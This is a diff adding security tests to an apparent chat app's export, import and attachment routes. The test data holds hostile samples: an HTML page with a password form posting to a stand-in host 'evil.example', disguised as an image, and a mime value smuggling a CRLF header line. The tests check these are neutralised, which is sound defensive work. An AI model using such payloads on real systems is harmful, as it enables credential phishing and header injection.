@@ -52,7 +52,7 @@ async function sendWith(threadId: string, content: string, attachmentIds: string
 }
 
 async function exportText(): Promise<string> {
-  const res = await exportRoute.GET();
+  const res = await exportRoute.GET(req('GET', '/api/export'));
   assert.equal(res.status, 200);
   assert.match(res.headers.get('content-type') ?? '', /application\/x-ndjson/);
   assert.match(res.headers.get('content-disposition') ?? '', /attachment; filename="hearth-library-\d{4}-\d{2}-\d{2}\.jsonl"/);
@@ -190,5 +190,59 @@ describe('export and import', () => {
     await refused(JSON.stringify([{ title: 'A chat', chat: { messages: [{ role: 'user', content: 'hi' }] } }]), /neither a Hearth library file .* nor a thread's JSON export/);
     await refused('%PDF-1.4 binary', /neither a Hearth library file/);
     await refused('', /empty/);
+  });
+});
+
+describe('what a library file or an upload may say of a file', () => {
+  const attachmentRoute = () => import('./attachments/[id]/route');
+
+  test('an imported "image" that is really HTML is a download with a safe type, never shown on Hearth\'s origin', async () => {
+    runtime();
+    const page = '<html><body><form action="https://evil.example/"><input name=password></form></body></html>';
+    const id = await upload('page.html', page, 'text/html');
+    const thread = await newThread();
+    await sendWith(thread, 'What does the attached page say?', [id]);
+    const file = (await exportText()).replace(/"type":"attachment"([^\n]*?)"kind":"text"/, '"type":"attachment"$1"kind":"image"').replace(/"mime":"text\/html[^"]*"/, '"mime":"text/html"');
+    assert.match(file, /"kind":"image"/);
+    runtime();
+    const imported = await importBody(file);
+    assert.equal(imported.status, 200, JSON.stringify(imported.body));
+    const { GET } = await attachmentRoute();
+    const res = await GET(req('GET', `/api/attachments/${id}`), params({ id }));
+    assert.equal(res.status, 200);
+    assert.equal(res.headers.get('content-type'), 'application/octet-stream');
+    assert.match(res.headers.get('content-disposition') ?? '', /^attachment;/);
+    assert.equal(await res.text(), page);
+  });
+
+  test('a real image is shown inline as the type its bytes are', async () => {
+    runtime();
+    const png = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGNgYGBgAAAABQABpfZFQAAAAABJRU5ErkJggg==', 'base64');
+    const id = await upload('dot.png', png, 'image/png');
+    const { GET } = await attachmentRoute();
+    const res = await GET(req('GET', `/api/attachments/${id}`), params({ id }));
+    assert.equal(res.headers.get('content-type'), 'image/png');
+    assert.match(res.headers.get('content-disposition') ?? '', /^inline;/);
+  });
+
+  test('a type with a control character or a line break is stored as a plain type (upload) or refused (import); its file still downloads', async () => {
+    runtime();
+    const boundary = 'hearthboundary';
+    const body = `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="notes.txt"\r\nContent-Type: text/plain\x01\r\n\r\nsome notes\r\n--${boundary}--\r\n`;
+    const res = await attachmentsRoute.POST(new Request(`${base}/api/attachments`, { method: 'POST', body, headers: { 'Content-Type': `multipart/form-data; boundary=${boundary}` } }));
+    assert.equal(res.status, 201, await res.clone().text());
+    const { id, mime } = await res.json();
+    assert.equal(mime, 'text/plain');
+    const { GET } = await attachmentRoute();
+    const got = await GET(req('GET', `/api/attachments/${id}`), params({ id }));
+    assert.equal(got.status, 200);
+    assert.equal(got.headers.get('content-type'), 'text/plain; charset=utf-8');
+    const thread = await newThread();
+    await sendWith(thread, 'What do the attached notes say?', [id]);
+    const file = (await exportText()).replace('"mime":"text/plain"', '"mime":"text/plain\\r\\nX-Evil: 1"');
+    runtime();
+    const refused = await importBody(file);
+    assert.equal(refused.status, 400);
+    assert.match(refused.body.error.message, /mime: must be a content type/);
   });
 });
